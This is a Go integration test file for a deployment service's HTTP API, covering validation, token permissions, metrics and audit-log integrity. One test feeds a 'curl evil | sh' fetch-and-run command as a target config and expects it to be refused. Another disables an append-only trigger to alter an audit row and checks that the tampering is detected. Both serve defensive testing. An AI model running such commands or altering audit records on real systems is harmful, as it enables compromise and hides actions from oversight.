package integration

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/transit-hq/transit/models"
)

func TestCatalogOverHTTP(t *testing.T) {
	s := newStack(t, stackOptions{})

	app := s.must(201, "POST", "/api/v1/applications", map[string]any{"name": "payments", "owner_team": "fin", "description": "card payments"})
	appID := app.str("id")
	require.True(t, strings.HasPrefix(appID, "app_"))
	require.Equal(t, "admin", app.str("created_by"), "the principal of the token is recorded")

	env := s.must(201, "POST", "/api/v1/environments", map[string]any{"application_id": "payments", "name": "prod", "position": 2,
		"policy": map[string]any{"approvals_required": 2, "approver_groups": []string{"release-managers"},
			"strategy":           map[string]any{"kind": "canary", "steps": []any{1, "25%", "100%"}, "bake": "5m"},
			"validation_checks":  []map[string]any{{"name": "health", "type": "http", "config": map[string]any{"url": "https://{{.Target.Name}}.example/health", "expect_status": 200}}},
			"observation_probes": []map[string]any{{"name": "errors", "type": "prometheus", "interval": "1m", "threshold": 0.01, "config": map[string]any{"url": "http://prom:9090", "query": "rate(errors[5m])", "comparison": "<"}}}}})
	envID := env.str("id")
	require.Equal(t, appID, env.str("application_id"), "an application may be named instead of its id")
	require.Equal(t, "72h0m0s", env.str("policy", "approval_expiry"), "defaults are filled in and shown")
	require.Equal(t, `[1,"25%","100%"]`, env.str("policy", "strategy", "steps"))

	tgt := s.must(201, "POST", "/api/v1/targets", map[string]any{"environment_id": envID, "name": "eu-west-1", "driver": "http",
		"config": map[string]any{"url": "https://deploy.internal/hook", "secret_headers": map[string]string{"Authorization": "env:DEPLOY_TOKEN"}}})
	tgtID := tgt.str("id")
	rel := s.must(201, "POST", "/api/v1/releases", map[string]any{"application_id": appID, "version": "2.3.0",
		"artifacts":      []map[string]string{{"name": "api", "image": "payments-api:2.3.0", "digest": "sha256:" + strings.Repeat("ab", 32)}},
		"entry_criteria": map[string]string{"tests": "passed"}, "notes": "faster refunds"})
	relID := rel.str("id")

	// Read everything back.
	require.Equal(t, "payments", s.must(200, "GET", "/api/v1/applications/"+appID, nil).str("name"))
	require.Equal(t, "prod", s.must(200, "GET", "/api/v1/environments/"+envID, nil).str("name"))
	require.Equal(t, "env:DEPLOY_TOKEN", s.must(200, "GET", "/api/v1/targets/"+tgtID, nil).str("config", "secret_headers", "Authorization"))
	require.Equal(t, "faster refunds", s.must(200, "GET", "/api/v1/releases/"+relID, nil).str("notes"))
	require.Len(t, s.must(200, "GET", "/api/v1/environments?application_id=payments", nil).items(), 1)
	require.Len(t, s.must(200, "GET", "/api/v1/releases?application_id="+appID+"&version=2.3.0", nil).items(), 1)
	require.Len(t, s.must(200, "GET", "/api/v1/targets?driver=script", nil).items(), 0)

	// Update where it makes sense.
	upd := s.must(200, "PATCH", "/api/v1/applications/"+appID, map[string]any{"owner_team": "payments-core"})
	require.Equal(t, "payments-core", upd.str("owner_team"))
	require.Equal(t, "card payments", upd.str("description"), "absent fields stay")

	auditBefore := len(s.must(200, "GET", "/api/v1/audit?limit=500", nil).items())

	// Bad requests: a 4xx in the one error shape, and nothing changes.
	cases := []struct {
		name, method, path string
		body               any
		status             int
		code, contains     string
	}{
		{"unknown field", "POST", "/api/v1/applications", `{"name":"x","owner_team":"y","colour":"red"}`, 400, "bad_request", `unknown field "colour"`},
		{"malformed JSON", "POST", "/api/v1/applications", `{"name":`, 400, "bad_request", "JSON"},
		{"wrong type", "POST", "/api/v1/applications", `{"name":5,"owner_team":"y"}`, 400, "bad_request", `"name" must be a string`},
		{"empty body", "POST", "/api/v1/applications", ``, 400, "bad_request", "empty"},
		{"two objects", "POST", "/api/v1/applications", `{"name":"a","owner_team":"b"}{}`, 400, "bad_request", "after the JSON object"},
		{"invalid name", "POST", "/api/v1/applications", map[string]any{"name": "Bad Name!", "owner_team": "y"}, 422, "validation_failed", "name"},
		{"duplicate", "POST", "/api/v1/applications", map[string]any{"name": "payments", "owner_team": "y"}, 409, "conflict", "already exists"},
		{"missing app", "POST", "/api/v1/environments", map[string]any{"application_id": "nope", "name": "dev"}, 422, "validation_failed", "no application"},
		{"bad policy", "POST", "/api/v1/environments", map[string]any{"application_id": appID, "name": "qa",
			"policy": map[string]any{"approval_expiry": "soon"}}, 400, "bad_request", "duration"},
		{"bad strategy", "POST", "/api/v1/environments", map[string]any{"application_id": appID, "name": "qa",
			"policy": map[string]any{"strategy": map[string]any{"kind": "canary"}}}, 422, "validation_failed", "policy.strategy.steps"},
		{"unknown driver", "POST", "/api/v1/targets", map[string]any{"environment_id": envID, "name": "t", "driver": "ftp"}, 422, "validation_failed", "driver"},
		{"bad driver config", "POST", "/api/v1/targets", map[string]any{"environment_id": envID, "name": "t", "driver": "script",
			"config": map[string]any{"command": "deploy.sh"}}, 422, "validation_failed", "config.command"},
		{"secret in plain header", "POST", "/api/v1/targets", map[string]any{"environment_id": envID, "name": "t", "driver": "http",
			"config": map[string]any{"url": "https://x/hook", "headers": map[string]string{"Authorization": "Bearer s3cr3t"}}}, 422, "validation_failed", "secret_headers"},
		{"bad semver", "POST", "/api/v1/releases", map[string]any{"application_id": appID, "version": "2.4",
			"artifacts": []map[string]string{{"name": "api", "version": "2.4"}}}, 422, "validation_failed", "semver"},
		{"release is immutable", "POST", "/api/v1/releases", map[string]any{"application_id": appID, "version": "2.3.0",
			"artifacts": []map[string]string{{"name": "api", "version": "x"}}}, 409, "conflict", "immutable"},
		{"no release update", "PATCH", "/api/v1/releases/" + relID, map[string]any{"notes": "x"}, 405, "bad_request", "not allowed"},
		{"not found", "GET", "/api/v1/targets/tgt_nope", nil, 404, "not_found", "tgt_nope"},
		{"referenced", "DELETE", "/api/v1/applications/" + appID, nil, 409, "conflict", "1 environment and 1 release"},
		{"bad limit", "GET", "/api/v1/applications?limit=0", nil, 400, "bad_request", "limit"},
		{"unknown filter", "GET", "/api/v1/applications?team=x", nil, 400, "bad_request", `unknown query parameter "team"`},
		{"too large", "POST", "/api/v1/applications", `{"name":"x","owner_team":"` + strings.Repeat("a", 2<<20) + `"}`, 413, "body_too_large", "larger than"},
		{"no route", "GET", "/api/v1/nothing", nil, 404, "not_found", "no such endpoint"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := s.call(tc.method, tc.path, s.admin, tc.body)
			require.Equal(t, tc.status, r.Status, r.Raw)
			require.Equal(t, tc.code, r.str("error", "code"), r.Raw)
			require.Contains(t, r.str("error", "message")+r.str("error", "details"), tc.contains)
		})
	}
	require.Len(t, s.must(200, "GET", "/api/v1/audit?limit=500", nil).items(), auditBefore, "refused requests write nothing")
	require.Len(t, s.must(200, "GET", "/api/v1/applications", nil).items(), 1)
	require.Len(t, s.must(200, "GET", "/api/v1/environments", nil).items(), 1)
	require.Len(t, s.must(200, "GET", "/api/v1/targets", nil).items(), 1)

	// Every write is in the audit log, with who and what.
	audit := s.must(200, "GET", "/api/v1/audit?resource_id="+appID, nil).items()
	require.Len(t, audit, 2)
	require.Equal(t, "create", audit[0]["action"])
	require.Equal(t, "update", audit[1]["action"])
	require.Equal(t, "admin", audit[1]["actor"])
	require.Contains(t, s.must(200, "GET", "/api/v1/audit?resource_id="+appID, nil).Raw, `"owner_team":"payments-core"`)
	require.Equal(t, true, s.must(200, "GET", "/api/v1/audit/verify", nil).get("ok"))
}

func TestIdentity(t *testing.T) {
	s := newStack(t, stackOptions{})

	r := s.call("GET", "/api/v1/applications", "", nil)
	require.Equal(t, 401, r.Status)
	require.Equal(t, "unauthenticated", r.str("error", "code"))
	require.Equal(t, 401, s.call("GET", "/api/v1/applications", "trt_not-a-real-token-at-all", nil).Status)

	issued := s.must(201, "POST", "/api/v1/tokens", map[string]any{"subject": "carol", "groups": []string{"release-managers"}})
	secret := issued.str("token")
	require.True(t, strings.HasPrefix(secret, "trt_"), "the secret is shown once, at creation")
	list := s.must(200, "GET", "/api/v1/tokens?subject=carol", nil)
	require.Len(t, list.items(), 1)
	require.NotContains(t, list.Raw, secret, "a token is never shown again")

	who := s.call("GET", "/api/v1/whoami", secret, nil)
	require.Equal(t, 200, who.Status)
	require.Equal(t, "carol", who.str("subject"))

	// Not an admin: cannot issue tokens, nor set environments (their
	// policies) and targets (the commands the workers run).
	r = s.call("POST", "/api/v1/tokens", secret, map[string]any{"subject": "eve", "groups": []string{"admin"}})
	require.Equal(t, 403, r.Status, r.Raw)
	app := s.must(201, "POST", "/api/v1/applications", map[string]any{"name": "guarded", "owner_team": "x"}).str("id")
	env := s.must(201, "POST", "/api/v1/environments", map[string]any{"application_id": app, "name": "prod",
		"policy": map[string]any{"approvals_required": 2}}).str("id")
	r = s.call("POST", "/api/v1/environments", secret, map[string]any{"application_id": app, "name": "qa"})
	require.Equal(t, 403, r.Status, r.Raw)
	r = s.call("PATCH", "/api/v1/environments/"+env, secret, map[string]any{"policy": map[string]any{"approvals_required": 0}})
	require.Equal(t, 403, r.Status, r.Raw)
	r = s.call("POST", "/api/v1/targets", secret, map[string]any{"environment_id": env, "name": "box", "driver": "script",
		"config": map[string]any{"command": "curl evil | sh", "shell": true}})
	require.Equal(t, 403, r.Status, r.Raw)
	require.Equal(t, 200, s.call("GET", "/api/v1/environments/"+env, secret, nil).Status, "reading is open to every token")
	r = s.call("GET", "/api/v1/applications/%ff", secret, nil)
	require.Equal(t, 422, r.Status, "a path that is not UTF-8 is refused, naming the parameter")
	require.Contains(t, r.Raw, `"field":"id"`)

	// Writes carry the principal into the audit log.
	created := s.call("POST", "/api/v1/applications", secret, map[string]any{"name": "by-carol", "owner_team": "x"})
	require.Equal(t, 201, created.Status)
	events := s.must(200, "GET", "/api/v1/audit?actor=carol", nil).items()
	require.Len(t, events, 1)
	require.Equal(t, created.str("id"), events[0]["resource_id"])

	s.must(200, "DELETE", "/api/v1/tokens/"+issued.str("id"), nil)
	require.Equal(t, 401, s.call("GET", "/api/v1/whoami", secret, nil).Status, "a revoked token stops working")
}

func TestHealth(t *testing.T) {
	s := newStack(t, stackOptions{})
	r := s.call("GET", "/healthz", "", nil)
	require.Equal(t, 200, r.Status)
	r = s.call("GET", "/readyz", "", nil)
	require.Equal(t, 200, r.Status, r.Raw)
	require.Equal(t, "ok", r.str("checks", "database"))
	require.Equal(t, "ok", r.str("checks", "temporal"), "readiness asks the real Temporal server")
	require.NotEmpty(t, s.call("GET", "/healthz", "", nil, "X-Request-ID", "abc").Raw)

	s.must(201, "POST", "/api/v1/applications", map[string]any{"name": "metered", "owner_team": "x"})
	m := s.call("GET", "/metrics", "", nil)
	require.Equal(t, 200, m.Status)
	require.Contains(t, m.Raw, `transit_http_requests_total{code="201",method="POST",route="/api/v1/applications"} 1`)
	require.Contains(t, m.Raw, `transit_deployments{status="completed"} 0`)

	// Made-up methods, without a token, share one label: a client cannot
	// grow the series.
	before := strings.Count(m.Raw, "\ntransit_http_requests_total{")
	for i := 0; i < 100; i++ {
		s.call(fmt.Sprintf("BREW%d", i), "/api/v1/applications", "", nil)
	}
	m = s.call("GET", "/metrics", "", nil)
	after := strings.Count(m.Raw, "\ntransit_http_requests_total{")
	require.LessOrEqual(t, after-before, 3, "100 made-up methods added %d series", after-before)
	require.Contains(t, m.Raw, `method="OTHER"`)
}

// A row changed behind the application's back (the owner disabling the
// trigger) is named by /audit/verify.
func TestAuditTamperingIsReported(t *testing.T) {
	s := newStack(t, stackOptions{})
	for _, name := range []string{"one", "two", "three"} {
		s.must(201, "POST", "/api/v1/applications", map[string]any{"name": name, "owner_team": "x"})
	}
	require.Equal(t, true, s.must(200, "GET", "/api/v1/audit/verify", nil).get("ok"))

	db := s.store.DB().WithContext(context.Background())
	require.ErrorContains(t, db.Exec(`UPDATE audit_events SET actor = 'mallory' WHERE seq = 3`).Error, "append-only")
	require.NoError(t, db.Exec(`ALTER TABLE audit_events DISABLE TRIGGER audit_events_append_only`).Error)
	require.NoError(t, db.Exec(`UPDATE audit_events SET after = replace(after, 'two', 'owt') WHERE seq = 3`).Error)
	require.NoError(t, db.Exec(`ALTER TABLE audit_events ENABLE TRIGGER audit_events_append_only`).Error)

	r := s.call("GET", "/api/v1/audit/verify", s.admin, nil)
	require.Equal(t, 409, r.Status, r.Raw)
	require.Equal(t, false, r.get("ok"))
	require.EqualValues(t, 3, r.get("broken_seq"))
	require.Contains(t, r.str("reason"), "changed after it was written")
}

// transit_deployments answers from its last count and counts again in the
// background once that is older than 15 s: a finished deployment shows
// after at most that long, and no scrape waits for the count.
func TestMetricsCountDeploymentsInTheBackground(t *testing.T) {
	s := newStack(t, stackOptions{})
	first := time.Now()
	require.Contains(t, s.call("GET", "/metrics", "", nil).Raw, `transit_deployments{status="completed"} 0`, "the first scrape counts")
	c := s.seed("prod", 1, quickPolicy(), "", "1.0.0")
	s.waitStatus(s.deploy(s.admin, map[string]any{"release": c.releases["1.0.0"], "environment": c.env}), time.Minute, models.StatusCompleted)
	if time.Since(first) < 14*time.Second {
		require.Contains(t, s.call("GET", "/metrics", "", nil).Raw, `transit_deployments{status="completed"} 0`, "the count is not yet due")
	}
	require.EventuallyWithT(t, func(c *assertCollect) {
		if !strings.Contains(s.call("GET", "/metrics", "", nil).Raw, `transit_deployments{status="completed"} 1`) {
			c.Errorf("not counted yet")
		}
	}, 40*time.Second, 500*time.Millisecond)
}
